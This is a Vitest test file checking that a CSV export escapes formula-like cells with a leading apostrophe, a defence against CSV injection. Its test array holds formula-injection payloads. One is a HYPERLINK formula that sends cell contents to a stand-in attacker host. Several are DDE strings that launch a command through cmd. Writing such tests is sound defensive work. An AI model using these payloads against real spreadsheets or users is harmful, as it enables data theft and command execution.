import { describe, expect, it } from 'vitest'
import { read, utils } from 'xlsx'
import { toCsv } from './csv'

// The export is opened in a spreadsheet: read it back as one (SheetJS reads a leading `=` as a
// formula, as Excel and LibreOffice do) and check that no cell a citizen typed can run.
const hostile = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
  '+1+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '=1+1\n',
]

function sheetOf(csv: string) {
  const book = read(csv.replace(/^\uFEFF/, ''), { type: 'string', raw: false })
  return book.Sheets[book.SheetNames[0]!]!
}

describe('toCsv', () => {
  it('neutralises cells that start like a formula (OWASP: a leading apostrophe)', () => {
    const csv = toCsv(
      ['title', 'ward'],
      hostile.map((t) => [t, 'Phường Phú Trinh']),
    )
    const sheet = sheetOf(csv)
    const cells = Object.entries(sheet).filter(([k]) => !k.startsWith('!'))
    expect(cells.length).toBe(2 * (hostile.length + 1))
    for (const [address, cell] of cells) expect(cell.f, address).toBeUndefined()
    const rows = utils.sheet_to_json<string[]>(sheet, { header: 1, raw: true })
    expect(rows.slice(1).map((r) => r[0])).toEqual(hostile.map((t) => `'${t}`))
    expect(rows[1]![1]).toBe('Phường Phú Trinh')
  })

  it('keeps numbers as numbers, negative ones included, and plain text as it is', () => {
    const csv = toCsv(
      ['n', 'text', 'negative text'],
      [
        [-5, 'Đèn đường hỏng', '-12'],
        [3.5, 'a-b @ c', '-0,5'],
      ],
    )
    const sheet = sheetOf(csv)
    expect(sheet.A2).toMatchObject({ t: 'n', v: -5 })
    expect(sheet.A3).toMatchObject({ t: 'n', v: 3.5 })
    expect(sheet.B2).toMatchObject({ t: 's', v: 'Đèn đường hỏng' })
    expect(sheet.B3).toMatchObject({ t: 's', v: 'a-b @ c' })
    // A bare negative number written as text is a number, not a formula: left alone.
    expect(sheet.C2).toMatchObject({ v: -12 })
    expect(csv).toContain(',-12\r\n')
    expect(csv).toContain('"-0,5"')
  })

  it('still quotes per RFC 4180 and starts with a BOM', () => {
    const csv = toCsv(['a'], [['say "hi", =then']])
    expect(csv.startsWith('\uFEFF')).toBe(true)
    expect(csv).toContain('"say ""hi"", =then"')
  })
})
